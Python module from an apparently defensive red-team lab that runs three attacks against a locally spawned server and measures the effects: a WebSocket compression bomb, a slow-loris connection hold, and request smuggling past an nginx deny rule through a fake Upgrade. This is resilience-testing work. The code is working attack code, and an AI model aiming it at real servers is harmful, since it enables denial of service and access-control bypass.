"""Attacks below the message level: slow loris, a compression bomb, and request smuggling past a proxy."""

from __future__ import annotations

import asyncio
import tempfile
import zlib
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Final, Literal, NamedTuple
from urllib.parse import urlsplit

from rtlab.errors import LabError
from rtlab.experiments.endpoint.craft_invalid_websocket_frames import (
    new_key,
    raw_frame,
    request_head,
    upgrade_fields,
)
from rtlab.experiments.endpoint.timed_connect_steps import dial
from rtlab.experiments.security.login_and_message_attacks import log_in
from rtlab.lab.lab import Lab
from rtlab.lab.nginx_reverse_proxy_config import NGINX_FRAME, NGINX_MAP
from rtlab.processes.find_program import find_program
from rtlab.processes.ports import HeldPort
from rtlab.protocol.urls import parse_url
from rtlab.protocol.websocket_framing import BINARY, CLOSE, PING, PONG

__all__ = ["NGINX_GUARD", "Bomb", "Smuggled", "compression_bomb", "slow_loris", "smuggle_past_nginx"]

#: nginx configuration that denies one path, meant for the operator, and forwards every ``Upgrade``.
NGINX_GUARD: Final = """\
  server {{
    listen 127.0.0.1:{port};
    location = /readyz {{ return 403; }}
    location / {{
      proxy_pass http://127.0.0.1:{upstream};
      proxy_http_version 1.1;
      proxy_set_header Upgrade $http_upgrade;
      proxy_set_header Connection $connection_upgrade;
      proxy_set_header Host $http_host;
    }}
  }}
"""

#: Timeout in seconds for each answer, long enough for a busy machine.
_PATIENCE: Final = 30.0

#: Seconds that the nginx of `smuggle_past_nginx` is given to stop.
_STOP: Final = 3.0


class Smuggled(NamedTuple):
    """HTTP statuses that show whether a request for a denied path got past the proxy.

    Parameters
    ----------
    direct : int
        Status of the denied request, sent alone.
    upgrade : int
        Status of a request to upgrade to a protocol that the server does not speak.
    behind : int
        Status of the denied request, sent on the same connection after the upgrade request; 0 if it was
        not answered.
    """

    direct: int
    upgrade: int
    behind: int


class Bomb(NamedTuple):
    """What a compression bomb did to a server.

    Parameters
    ----------
    sent_bytes, claimed_bytes : int
        Size of the compressed payload, and of the data that it inflates to.
    grown_bytes : int
        Bytes by which the server's peak resident memory grew.
    close_code : int
        Close code that the server sent; 0 if it sent none.
    """

    sent_bytes: int
    claimed_bytes: int
    grown_bytes: int
    close_code: int


async def compression_bomb(lab: Lab, mebibytes: int = 64) -> Bomb:
    """Send one message of zeros as Bob, compressed to about a thousandth of its size.

    Parameters
    ----------
    lab : Lab
        With ``compression=True``.
    mebibytes : int
        Size of the inflated message in MiB.

    Raises
    ------
    LabError
        When the server does not agree on compression.
    """
    url = parse_url(lab.ws_url)
    claimed = mebibytes << 20
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = (squeezed.compress(bytes(claimed)) + squeezed.flush(zlib.Z_SYNC_FLUSH))[:-4]  # RFC 7692 §7.2.1
    fields = {
        **upgrade_fields(new_key()),
        "Sec-WebSocket-Extensions": "permessage-deflate",
        "Authorization": f"Bearer {(await log_in(lab, 'bob'))['accessToken']}",
    }
    before, code = await _most_memory(lab), 0
    async with await dial(url, timeout=_PATIENCE) as wire:
        await wire.send(request_head(url, fields))
        if not (await wire.head()).get(b"sec-websocket-extensions"):
            raise LabError("the server agreed on no compression: Lab(compression=True)")
        await wire.send(raw_frame(BINARY, bomb, rsv=4) + raw_frame(PING, b"over"))
        while (frame := await wire.frame()) is not None and frame.opcode != PONG:
            if frame.opcode == CLOSE:
                code = frame.code
                break
    return Bomb(len(bomb), claimed, await _most_memory(lab) - before, code)


async def _most_memory(lab: Lab) -> int:
    """Return the peak resident memory of the lab's server in bytes; outside Linux, its current memory."""
    stats = await lab.stats()
    try:
        status = await asyncio.to_thread(Path(f"/proc/{stats['pid']}/status").read_text, encoding="ascii")
    except FileNotFoundError:
        return int(stats["rss_bytes"])
    return int(status.partition("VmHWM:")[2].split()[0]) << 10


async def slow_loris(
    lab: Lab, count: int = 20, seconds: float = 15.0, *, part: Literal["head", "body"] = "head"
) -> int:
    """Begin requests and never finish them; return how many the server still waits for at the end.

    Parameters
    ----------
    lab : Lab
        A running lab.
    count : int
        Number of connections, each with one unfinished request.
    seconds : float
        Seconds to wait; the function returns earlier if the server answers or closes all of them.
    part : {"head", "body"}
        The part that is never finished: the headers of a handshake, or the body of a login request.
    """
    url = parse_url(lab.ws_url if part == "head" else f"{lab.url}/api/auth/token")
    if part == "head":
        begun = request_head(url, {"Upgrade": "websocket"})[:-2]
    else:
        fields = {"Content-Type": "application/json", "Content-Length": "100"}
        begun = request_head(url, fields).replace(b"GET ", b"POST ", 1) + b"{"
    async with AsyncExitStack() as stack:
        wires = [await stack.enter_async_context(await dial(url)) for _ in range(count)]
        for wire in wires:
            await wire.send(begun)

        async def held(number: int) -> bool:
            try:
                await wires[number].more(seconds)
            except TimeoutError:
                return True
            return False

        return sum(await asyncio.gather(*map(held, range(count))))


async def smuggle_past_nginx(lab: Lab) -> Smuggled:
    """Send a request that nginx denies right after an ``Upgrade`` that the server may accept.

    After forwarding a 101, nginx only copies bytes between client and server. A server that answers 101
    without switching protocols reads the next request, which the proxy's rules have not checked.

    Parameters
    ----------
    lab : Lab
        Without TLS.

    Raises
    ------
    LabError
        When nginx is not installed.
    """
    if find_program("nginx") is None:
        raise LabError("nginx is not installed: `rtlab doctor` says how to get it")
    with HeldPort() as held, tempfile.TemporaryDirectory(prefix="rtlab-") as folder:
        port = held.port
        path = Path(folder) / "nginx.conf"
        guard = NGINX_GUARD.format(port=port, upstream=urlsplit(lab.url).port)
        text = NGINX_FRAME.format(folder=folder, map=NGINX_MAP, servers=guard)
        path.write_text(text, encoding="utf-8")
        argv = ["nginx", "-e", "stderr", "-p", folder, "-c", str(path)]
        proxy = await lab.spawn(argv, name="nginx", port=port)
        try:
            denied = parse_url(f"http://127.0.0.1:{port}/readyz")
            async with await dial(denied) as wire:
                await wire.send(request_head(denied, {}))
                direct = (await wire.head()).status
            async with await dial(denied) as wire:
                fields = {"Upgrade": "h2c", "Connection": "Upgrade"}
                await wire.send(request_head(parse_url(f"http://127.0.0.1:{port}/ws"), fields))
                head = await wire.head()
                await wire.body(head) if head.status != 101 else b""
                await wire.send(request_head(denied, {}))
                behind = (await wire.head()).status
        finally:
            await proxy.stop(_STOP)
    return Smuggled(direct, head.status, behind)
